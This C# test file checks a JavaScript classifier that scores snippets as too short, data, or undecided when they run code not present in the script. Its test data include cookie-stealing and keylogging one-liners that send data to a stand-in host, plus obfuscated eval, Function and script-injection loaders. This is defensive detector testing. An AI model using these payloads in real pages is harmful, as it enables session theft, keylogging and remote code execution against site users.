using System.Text;
using Shouldly;
using Weir.Scripts;
using Xunit;

namespace Weir.Tests.Scripts;

/// <summary>What a score is worth: short code is not harmless, and code that is not there is not read. All scripts are inert text.</summary>
public sealed class ScriptStateTests
{
    private static readonly Lazy<ScriptClassifier> s_classifier = new(() => ScriptClassifier.Load(Path.Combine(House.Repository.Root, "models", "script-1.weir")));

    [Theory]
    [InlineData("onkeyup=e=>fetch('//x/'+e.key)")]
    [InlineData("new Image().src='//x/?'+document.cookie")]
    [InlineData("location='//x/?'+document.cookie")]
    [InlineData("alert(1)")]
    [InlineData("alert`1`")]
    [InlineData("import'//x/y.js'")]
    [InlineData("throw x")]
    public void Score_FewWords_IsTooShort(string code)
    {
        ScriptVerdict verdict = Score(code);

        verdict.State.ShouldBe(ScriptState.TooShort);
        verdict.IsUndecided.ShouldBeFalse();
        verdict.Class.ShouldBeNull();
        (verdict.Score, verdict.Severity).ShouldBe((0, Severity.None));
    }

    [Theory]
    [InlineData("")]
    [InlineData("{\"a\":[1,2,3]}")]
    [InlineData("var shop = { currency: 'EUR', locale: 'en', step: 'payment', items: ['one', 'two', 'three'], name: 'Shop' };")]
    public void Score_NothingCalled_IsData(string code) => Score(code).State.ShouldBe(ScriptState.Data);

    [Theory]
    [InlineData("fetch(u).then(r=>r.text()).then(eval)", "eval")]
    [InlineData("Function([...function*(){for(const n of [105,96,107])yield String.fromCharCode(n-5)}()].join(''))()", "Function")]
    [InlineData("const m=new Map([[0,'a'],[1,'b']]);new Function([1,0,1].map(i=>m.get(i)).join(''))()", "Function")]
    [InlineData("new Function((function(){/*alert(1)*/}).toString().match(/\\/\\*(.*)\\*\\//)[1])()", "Function")]
    [InlineData("eval(document.currentScript.dataset.c)", "eval")]
    [InlineData("(0,eval)(localStorage.p)", "eval")]
    [InlineData("globalThis?.eval?.(name)", "eval")]
    [InlineData("onmessage=eval", "eval")]
    [InlineData("window.onerror=eval;throw name", "eval")]
    [InlineData("[].constructor.constructor(location.hash.slice(1))()", "constructor")]
    [InlineData("setTimeout(atob(document.querySelector('meta[name=v]').content),9)", "setTimeout")]
    [InlineData("fetch('/404').then(r=>r.text()).then(t=>{const s=document.createElement('script');s.textContent=t;document.head.append(s)})", "a script element")]
    [InlineData("document.head.append(Object.assign(document.createElement('script'),{text:localStorage.x}))", "a script element")]
    [InlineData("document.querySelector('iframe').srcdoc='<b>'+localStorage.x", "a frame")]
    public void Score_RunsTextThatIsNotThere_IsNotDecided(string code, string how)
    {
        ScriptVerdict verdict = Score(code);

        verdict.State.ShouldBe(ScriptState.Undecided);
        (verdict.Severity >= Severity.Low || verdict.Evidence[0].Sentence == $"Runs text that does not stand in the script ({how}).").ShouldBeTrue();
    }

    /// <summary>What is known is no unknown code: constants, functions, and code that was unfolded.</summary>
    [Theory]
    [InlineData("setTimeout(function () { document.querySelector('.menu').classList.toggle('open', true); }, 100)")]
    [InlineData("setTimeout(closeMenu, 100); function closeMenu() { document.querySelector('.menu').classList.remove('open'); }")]
    [InlineData("var root = Function('return this')(); root.shopVersion = function () { return document.body.dataset.release.trim(); };")]
    [InlineData("eval(atob('ZG9jdW1lbnQucXVlcnlTZWxlY3RvcignLm1lbnUnKS5jbGFzc0xpc3QudG9nZ2xlKCdvcGVuJyk7'))")]
    [InlineData("var s = document.createElement('script'); s.src = '/static/shop.js'; s.async = true; document.head.appendChild(s); console.log('loaded the rest of the shop');")]
    public void Score_RunsOnlyWhatStandsInIt_IsDecided(string code) => Score(code).IsUndecided.ShouldBeFalse();

    [Fact]
    public void Score_ALibraryThatMakesCode_IsDecided()
    {
        string library = string.Join('\n', Enumerable.Range(0, 60).Select(i => $"lib.part{i} = function (a, b) {{ return a.length > {i} ? a.slice(0, b) : a; }};")) + "\nlib.template = function (text) { return new Function('data', compile(text)); };";

        Score(library).IsUndecided.ShouldBeFalse();
    }

    [Fact]
    public void Score_NoSeverity_HasNoClass()
    {
        ScriptVerdict verdict = Score("document.querySelector('.menu').addEventListener('click', function (event) { event.target.classList.toggle('open'); });");

        verdict.State.ShouldBe(ScriptState.Judged);
        verdict.Class.ShouldBeNull();
    }

    private static ScriptVerdict Score(string code) => s_classifier.Value.Score(Encoding.UTF8.GetBytes(code));
}
